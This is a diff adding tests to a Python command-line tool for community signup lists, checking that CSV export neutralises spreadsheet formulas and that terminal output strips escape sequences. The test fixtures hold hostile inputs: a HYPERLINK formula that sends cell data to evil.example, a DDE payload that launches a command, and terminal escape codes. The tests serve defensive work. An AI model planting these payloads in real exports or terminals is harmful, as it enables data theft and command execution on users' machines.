@@ -84,3 +84,46 @@ def test_list_shows_each_list_with_its_counts(
     )
     unknown = CliRunner().invoke(app, ["signups", "list", "--community", "nope"], env=env)
     assert unknown.exit_code == 1 and "no community 'nope'" in unknown.stderr
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+ESCAPES = "\x1b]0;pwned\x07\x1b[2J小\x9b31m明"
+
+
+def _hostile_list(store: Store, clock: FrozenClock) -> None:
+    loaded = parse_playbook(SHANGHAI + RULES)
+    apply_playbook(store, loaded, "test")
+    c = staffed(store, clock, loaded.playbook)
+    say(c, "boss", "/接龙 周六徒步\x1b[31m | 截止 明天 10:00")
+    say(c, HOSTILE_NAME, "+1 @SUM(1+1)*cmd|' /C calc'!A0")
+    say(c, ESCAPES, "接龙 -2+3")
+
+
+def test_export_keeps_spreadsheets_from_running_members_text_as_formulas(
+    store: Store, store_clock: FrozenClock, database_url: str, tmp_path: Path
+) -> None:
+    _hostile_list(store, store_clock)
+    target = tmp_path / "hike.csv"
+    env = {"HEARTH_DATABASE_URL": database_url}
+    result = CliRunner().invoke(app, ["signups", "export", "1", "-o", str(target)], env=env)
+    assert result.exit_code == 0, result.output
+    with target.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert rows[0]["name"] == "'" + HOSTILE_NAME
+    assert rows[0]["note"].startswith("'@SUM(1+1)")
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+
+
+def test_terminal_output_carries_no_escape_sequences(
+    store: Store, store_clock: FrozenClock, database_url: str
+) -> None:
+    _hostile_list(store, store_clock)
+    env = {"HEARTH_DATABASE_URL": database_url}
+    exported = CliRunner().invoke(app, ["signups", "export", "1"], env=env)
+    listed = CliRunner().invoke(app, ["signups", "list"], env=env)
+    for result in (exported, listed):
+        assert result.exit_code == 0, result.output
+        assert not any(c in result.stdout for c in "\x1b\x07\x9b"), repr(result.stdout)
+    assert "]0;pwned[2J小31m明" in exported.stdout, "the visible text stays"
+    assert "周六徒步[31m" in listed.stdout
